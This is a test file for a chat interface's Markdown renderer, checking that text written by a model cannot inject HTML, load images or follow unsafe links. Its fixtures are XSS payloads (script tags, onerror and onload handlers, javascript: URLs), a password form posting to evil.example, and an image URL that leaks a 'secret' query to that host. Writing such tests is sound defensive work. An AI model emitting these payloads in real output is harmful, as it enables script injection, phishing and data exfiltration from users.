import { NextIntlClientProvider } from 'next-intl'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { en } from '#app/_messages/en.ts'
import { Markdown } from '#components/chat/markdown.tsx'

const html = (children: string, isStreaming = false) =>
  renderToStaticMarkup(
    createElement(() =>
      NextIntlClientProvider({
        locale: 'en',
        messages: en,
        children: createElement(Markdown, { children, isStreaming }),
      }),
    ),
  )

describe.each([
  ['while it streams', true],
  ['complete', false],
])('what a model writes, %s', (_, isStreaming) => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'text <b onclick="alert(1)">bold</b> <iframe src="https://evil.example"></iframe>',
    '<svg onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>body{display:none}</style>',
    '<form action="https://evil.example"><input name=password></form>',
  ])('HTML stays text: %s', (markdown) => {
    expect(html(markdown, isStreaming)).not.toMatch(/<(script|img|b|iframe|svg|a|style|form|input)\b/)
  })

  test.each([
    '![secret](https://evil.example/x.png?q=secret)',
    '![d](data:image/png;base64,AAAA)',
    '![ref]\n\n[ref]: https://evil.example/p.png',
    '[![nested](https://evil.example/x.png)](https://evil.example)',
    '![relative](/api/v1/me)',
  ])('an image is never loaded: %s', (markdown) => {
    expect(html(markdown, isStreaming)).not.toMatch(/<img|srcset|background|preload/)
  })

  test.each(['[x](javascript:alert(1))', '[x](data:text/html,hi)', '[x](vbscript:x)', '[x](/sign-out)', '[x](//evil)'])(
    'a link that is no address of a page or a mailbox leads nowhere: %s',
    (markdown) => {
      expect(html(markdown, isStreaming)).not.toContain('<a ')
    },
  )

  test('a link leaves without telling where from', () => {
    const link = html('[docs](https://example.com/docs)', isStreaming)
    expect(link).toContain('href="https://example.com/docs"')
    expect(link).toMatch(/rel="noopener noreferrer nofollow"/)
  })

  test('code is shown as it is, and can be copied', () => {
    const code = html('```js\nconst x = "<b>"\n```\nand `inline`', isStreaming)
    expect(code).toContain('const x = &quot;&lt;b&gt;&quot;</code></pre>')
    expect(code).toContain('aria-label="Copy the code"')
    expect(code).toContain('<code>inline</code>')
    expect(html('    indented\n\n```\nplain\n```', isStreaming)).toContain('plain</code></pre>')
  })
})

test('half a table, half a fence and half a link do not break', () => {
  const whole = '# A\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nlet x\n```\n\n[link](https://example.com) **bold**'
  for (let length = 0; length <= whole.length; length++) expect(() => html(whole.slice(0, length), true)).not.toThrow()
})
